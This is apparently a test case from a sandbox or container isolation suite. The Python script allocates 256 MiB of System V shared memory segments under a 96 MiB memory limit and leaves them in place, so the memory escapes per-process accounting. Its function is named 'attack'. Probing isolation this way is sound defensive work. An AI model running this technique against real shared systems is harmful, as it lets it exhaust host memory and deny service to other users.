"""Takes System V shared memory and lets go of it: a segment stays until somebody removes it.

Would gain: the host's memory, in no process's count and behind no descriptor.
"""
import ctypes
import time

from inside import attempt, called, libc, main

IPC_CREAT = 0o1000
libc.shmat.restype = ctypes.c_void_p


def segments():
    for _ in range(4):
        segment = called("shmget", 0, 64 << 20, IPC_CREAT | 0o600)
        at = libc.shmat(segment, None, 0)
        assert at != ctypes.c_void_p(-1).value
        ctypes.memset(at, 1, 64 << 20)
        libc.shmdt(ctypes.c_void_p(at))
    time.sleep(0.8)


def attack():
    attempt("256 MiB of segments", segments)


def host(case):
    yield {"flags": ["--memory", "96MiB"]}


if __name__ == "__main__":
    main(attack)
